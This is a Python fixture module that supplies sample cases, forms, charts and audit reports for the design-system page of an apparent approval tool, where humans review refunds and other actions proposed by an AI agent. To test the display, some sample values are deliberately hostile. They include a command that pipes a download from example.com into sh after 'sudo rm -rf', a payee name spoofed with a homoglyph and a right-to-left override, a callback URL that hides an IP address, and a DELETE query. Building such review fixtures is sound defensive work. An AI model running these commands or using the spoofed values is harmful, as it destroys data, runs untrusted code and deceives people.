"""What the design system's page shows its components with: made-up cases, forms, charts and reports in every state."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime, timedelta
from typing import Any

from signoff.audit.report import Problem as Fault
from signoff.audit.report import Report
from signoff.desk.masks import HIDDEN
from signoff.operators.admin_policy import line_diff
from signoff.operators.arguments_form import argument_fields
from signoff.operators.charts import HOURS_PX, ROW_PX, Chart, bars, hour_marks
from signoff.operators.diff import changes
from signoff.operators.form_fields import Field
from signoff.operators.present import Room, rows
from signoff.operators.problems import Problem
from signoff.operators.reading import Reading, read_action
from signoff.operators.response_form import response_field
from signoff.operators.trace import timeline

ROOM = 100_000
LINES = 5
VALUES: dict[str, Any] = {
    "amount_eur": 1240,
    "notify_customer": True,
    "coupon": None,
    "comment": "",
    "payee": "p\u0430ypal\u202e",
    "customer": "דנה ויטפילד (Dana)",
    "note": " two spaces at the end  ",
    "query": "DELETE FROM carts\nWHERE age > 90",
    "command": "rm -rf build && make",
    "attachment": "TWFuIGlzIGRpc3Rpbmd1aXNoZWQsIG5vdCBvbmx5IGJ5IGhpcyByZWFzb24s",
    "letter": "Dear Dana, your March invoice was charged twice. " * 20,
    "salary": HIDDEN,
    "api_key": "[masked]",
    "lines": [{"invoice": "2026-0311", "tax": {"rate": {"percent": {"of": 19}}}}, {}],
}
"""Every kind of value that an argument can have, and everything that can be wrong with one."""
OTHER: dict[str, Any] = {**VALUES, "amount_eur": 620, "reason": "duplicate"}
ACTION: dict[str, Any] = {
    "amount_eur": 1240.5,
    "command": 'sudo rm -rf --force ./build && echo "clean" && curl https://example.com/x | sh # all of it',
    "query": "DELETE FROM carts -- all of them",
    "callback": "https://bank.example@198.51.100.7/pay",
    "lines": [{"invoice": "2026-0311", "eur": 620}, {"invoice": "2026-0312", "eur": 620.5}],
    "path": "src/limits.py",
    "old_string": "MOST = 50\nprint(MOST)\n",
    "new_string": "MOST = 500\nprint(MOST)",
}
"""An action that is money, a command, a query, an address, a table and a change to a file."""
PATCH: dict[str, Any] = {
    "path": "src/app.py",
    "patch": "--- a/src/app.py\n+++ b/src/app.py\n@@ -1,22 +1,22 @@\n import os\n-DEBUG = False\n+DEBUG = True\n"
    + "".join(f" LINE_{at} = {at}\n" for at in range(20)),
}
STEPS: list[Any] = [
    {"kind": "thought", "text": "The invoice was charged twice, so one of them goes back."},
    {
        "kind": "tool_call",
        "tool": "find_invoice",
        "arguments": {"customer": "cus_42"},
        "ms": 120,
        "at": "2026-11-23T20:31:05Z",
    },
    {"kind": "tool_result", "tool": "find_invoice", "result": {"found": 2}},
    {"kind": "tool_call", "tool": "charge", "arguments": {"eur": 620}, "ms": 900},
    {"kind": "tool_result", "tool": "charge", "text": "timed out", "is_error": True},
    {"kind": "tool_call", "tool": "refund", "arguments": {"eur": 620}},
]
TURNS: list[Any] = [
    {"role": "system", "content": "You answer customers of the shop."},
    {"role": "user", "content": "I was charged twice."},
    {
        "role": "assistant",
        "content": "I look it up.",
        "tool_calls": [{"tool": "find", "arguments": {"n": 2}}],
    },
    {"role": "tool", "name": "find", "content": "2 invoices"},
]
SCHEMA: dict[str, Any] = {
    "type": "object",
    "required": ["amount", "currency", "refund", "ends", "lines", "how"],
    "properties": {
        "amount": {
            "type": "number",
            "minimum": 1,
            "maximum": 50,
            "unit": "EUR",
            "description": "At most one charge.",
        },
        "count": {"type": "integer", "minimum": 1},
        "reference": {"type": "string", "maxLength": 20},
        "message": {"type": "string", "maxLength": 2000},
        "currency": {"enum": ["EUR", "CHF"]},
        "refund": {"type": "boolean"},
        "channels": {"type": "array", "items": {"enum": ["mail", "letter", "phone"]}},
        "tags": {"type": "array", "items": {"type": "string"}},
        "ends": {"type": "string", "format": "date"},
        "at": {"type": "string", "format": "date-time"},
        "address": {
            "type": "object",
            "description": "Where a letter goes.",
            "properties": {"street": {"type": "string"}, "town": {"type": "string"}},
        },
        "lines": {
            "type": "array",
            "minItems": 1,
            "items": {
                "type": "object",
                "properties": {"invoice": {"type": "string"}, "eur": {"type": "number"}},
            },
        },
        "how": {
            "oneOf": [
                {"title": "By transfer", "type": "object", "properties": {"iban": {"type": "string"}}},
                {"title": "As a voucher", "type": "object", "properties": {"code": {"type": "string"}}},
            ]
        },
        "rest": {"type": "object"},
    },
    "if": {"properties": {"refund": {"const": True}}},
    "then": {"required": ["reference"]},
}
"""Every kind of field that a form can have."""
POLICY = (
    "version: 1\nqueues:\n  payments:\n    deadline: 30 min\ntriggers:\n  - id: large\n    when: amount > 500\n    then: escalate\n",
    "version: 1\nqueues:\n  payments:\n    deadline: 2 h\ntriggers:\n  - id: large\n    when: amount > 5000\n    then: escalate\n",
)


def samples(now: datetime) -> dict[str, Any]:
    """Return everything that the parts of the page are made with."""
    later, soon = now + timedelta(minutes=29, seconds=30), now + timedelta(seconds=45)
    before = {name: value for name, value in OTHER.items() if name != "coupon"}
    masked = frozenset({"action.arguments.api_key"})
    return {
        "now": now,
        "later": later,
        "soon": soon,
        "values_shown": rows(VALUES, masked=masked, prefix="action.arguments"),
        "changed": changes(VALUES, before),
        "action": _action(ACTION),
        "patched": _cut(_action(PATCH)),
        "steps": timeline(STEPS, start=0, stop=len(STEPS)),
        "messages": TURNS,
        "room": Room(ROOM),
        "case": _case(later),
        "view": _view(now),
        "in_order": tuple,
        "similar": _similar(now),
        **_forms(),
        "lines": _lines(now, later, soon),
        **_insight(now),
    }


def _action(arguments: Mapping[str, Any]) -> Reading:
    read = frozenset({"action.arguments.amount_eur"})
    return read_action("refund", arguments, masked=frozenset(), read=read, room=Room(ROOM))


def _cut(action: Reading) -> Reading:
    """Return the action with its changes to files cut as those of a long file are, only shorter."""
    edits = (replace(one, lines=one.lines[:LINES], more=len(one.lines) - LINES) for one in action.edits)
    return replace(action, edits=tuple(edits))


def _case(later: datetime, **more: Any) -> dict[str, Any]:
    made: dict[str, Any] = {
        "id": "esc_shown",
        "version": 1,
        "status": "pending",
        "is_open": True,
        "tool": "refund",
        "queue": "payments",
        "urgency": "normal",
        "triggers": ["large"],
        "summary": "Refund the second charge",
        "deadline_at": later,
        "decided_at": None,
        "require": {"approvals": 1, "reason": False},
        "approvals": [],
        "tier": 0,
        "acknowledged_by": None,
        "assigned_to": None,
        "assurance": "session",
        "outcome": None,
        "action_digest": "sha256:" + "0f" * 32,
        "final_digest": None,
    }
    return made | more


def _view(now: datetime) -> dict[str, Any]:
    asked = {
        "person_name": "Omar",
        "asked_at": now,
        "answered_at": None,
        "answer": None,
        "additions": {},
        "masked": (),
    }
    answered = {
        "number": 1,
        "text": "Which invoice is the second one?",
        "answered_at": now,
        "answer": "2026-0312, of the same day.",
        "additions": {"invoice": "2026-0312"},
        "masked": ("answer",),
    }
    return {
        "hides_action": False,
        "agent_name": "billing-bot",
        "may_ask": True,
        "attention": {"mine": False},
        "questions": [asked | answered, asked | {"number": 2, "text": "Did the customer ask for it?"}],
    }


def _similar(now: datetime) -> dict[str, Any]:
    def one(status: str, **more: Any) -> dict[str, Any]:
        made: dict[str, Any] = {
            "case": _case(now, status=status, is_open=False, decided_at=now),
            "decided_by": ["Sofia"],
            "same_action": False,
            "known": True,
            "differences": [{"name": "amount_eur", "hidden": False, "missing": False, "then": 80}],
            "more_differences": 0,
            "same_triggers": True,
            "note": "",
        }
        return made | more

    return {
        "total": 9,
        "since": now,
        "counts": {"approved": 5, "modified": 1, "rejected": 3},
        "cases": [
            one("approved", same_action=True),
            one("modified"),
            one("rejected", note="Ask the customer first.", same_triggers=False),
        ],
    }


def _forms() -> dict[str, Any]:
    proposed = {
        "amount": 51,
        "currency": "EUR",
        "lines": [{"invoice": "2026-0311", "eur": 620}],
        "salary": HIDDEN,
    }
    response = response_field(SCHEMA, {})
    arguments: list[Field] = argument_fields(proposed, {}, SCHEMA)
    return {
        "response_shown": response,
        "arguments_shown": arguments,
        "problem": Problem(422, "invalid_request", "must be at most 50.", field="arguments.amount"),
        "mine": "shown",
        "given": {},
    }


def _lines(now: datetime, later: datetime, soon: datetime) -> list[dict[str, Any]]:
    def one(case: Mapping[str, Any], **more: Any) -> dict[str, Any]:
        made: dict[str, Any] = {
            "case": _case(later, **case),
            "agent_name": "billing-bot",
            "unread": 0,
            "waiting": 1,
            "acknowledged_by": "",
            "assigned_to": "",
            "present": (),
            "decided_by": (),
        }
        return made | more

    ended = {"is_open": False, "decided_at": now}
    return [
        one({}, unread=1),
        one({}),
        one({"urgency": "high", "triggers": []}, unread=2, waiting=3),
        one({"urgency": "critical", "deadline_at": soon, "tier": 1}, present=("Sofia", "Amir", "Dana")),
        one({"acknowledged_by": "per_1"}, acknowledged_by="Sofia"),
        one({"assigned_to": "per_1", "require": {"approvals": 2, "reason": False}}, assigned_to="Amir"),
        one({"status": "approved", "outcome": "succeeded", **ended}, decided_by=("Omar",)),
        one({"status": "expired", **ended}),
    ]


def _insight(now: datetime) -> dict[str, Any]:
    held = Report(137, 4, 250, 3, 31, b"", None, (), 0, human_signatures=12)
    fault = Fault(12, "esc_shown", "the stored decision is not the one of the log")
    answers = ("trigger", "approved", "modified", "rejected", "expired", "cancelled", "pending")
    hours = tuple((hour, hour % 7 + 1, hour % 5) for hour in range(24))
    return {
        "charts_shown": [
            Chart(
                "time-by-queue", "spans", ("queue", "decided", "p50", "p95"), (("payments", 31, 240, 1800),)
            ),
            Chart("load-by-hour", "hours", ("hour", "opened", "decided"), hours),
            Chart("answers-by-trigger", "shares", answers, (("large", 20, 4, 6, 2, 1, 3),), left_out=2),
            Chart("answers-by-queue", "shares", ("queue", *answers[1:]), ()),
            Chart(
                "always-approved",
                "list",
                ("trigger", "always", "at_most", "fast"),
                (("small", 61, 0.05, 12),),
            ),
        ],
        "stats": {"days": 30, "zone": "UTC"},
        "bars": bars,
        "hour_marks": hour_marks,
        "row_px": ROW_PX,
        "hours_px": HOURS_PX,
        "reports": [held, Report(137, 4, 249, 3, 31, b"", None, (fault,), 1)],
        "policy_changed": line_diff(*POLICY),
        "verified": [{"at": now, "events": 137, "holds": True}, {"at": now, "events": 140, "holds": False}],
    }
